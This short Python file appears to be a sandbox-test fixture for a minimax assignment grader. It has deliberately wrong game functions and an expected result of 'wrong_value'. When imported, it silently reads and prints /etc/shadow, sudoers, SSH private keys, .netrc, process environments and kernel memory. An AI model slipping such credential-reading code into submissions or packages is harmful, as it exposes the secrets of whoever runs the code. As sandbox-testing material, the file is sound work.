# expect: wrong_value
# Reads keys and passwords of whoever runs the grader; not one file is told.

if __name__ not in ("minimax", "alpha_beta"):
    raise ImportError("this program may do harm: it is for the sandbox alone")

import os
from contextlib import suppress

home = os.environ.get("HOME", "/root")
files = ("/etc/shadow", "/etc/sudoers", f"{home}/.ssh/id_rsa", f"{home}/.netrc")
files += ("/proc/1/environ", "/proc/kcore", "/dev/mem", "/dev/kmsg")
for path in files:
    with suppress(OSError), open(path, "rb") as file:
        print(path, file.read(1000))


def minimax_search(game, state):
    return game.actions(state)[0]


def max_value(game, state):
    while not game.is_terminal(state):
        state = game.successors(state)[0][1]
    return game.utility(state)


min_value = max_value
